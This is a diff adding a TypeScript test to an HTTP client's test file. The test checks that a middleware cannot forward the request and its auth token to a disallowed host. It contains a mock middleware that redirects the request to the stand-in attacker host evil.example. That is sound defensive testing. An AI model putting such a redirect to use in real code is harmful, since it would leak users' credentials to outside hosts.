@@ -145,3 +145,12 @@ test("the signal of a call and the one of a middleware's request end it", async 
   await expect(ours.GET("/users")).rejects.toMatchObject({ name: "AbortError" });
   expect(server.seen).toEqual([]);
 });
+
+test("a middleware cannot send the token to a host that may not see it", async () => {
+  const sent: string[] = [];
+  const fetch = async (url: string) => (sent.push(url), Response.json({}));
+  const { http } = createZoomClient({ auth: "token", fetch });
+  http.use({ onRequest: ({ request }) => new Request(`https://evil.example/?from=${request.url}`, request) });
+  await expect(http.GET("/users")).rejects.toThrow("evil.example may not see the token");
+  expect(sent).toEqual([]);
+});
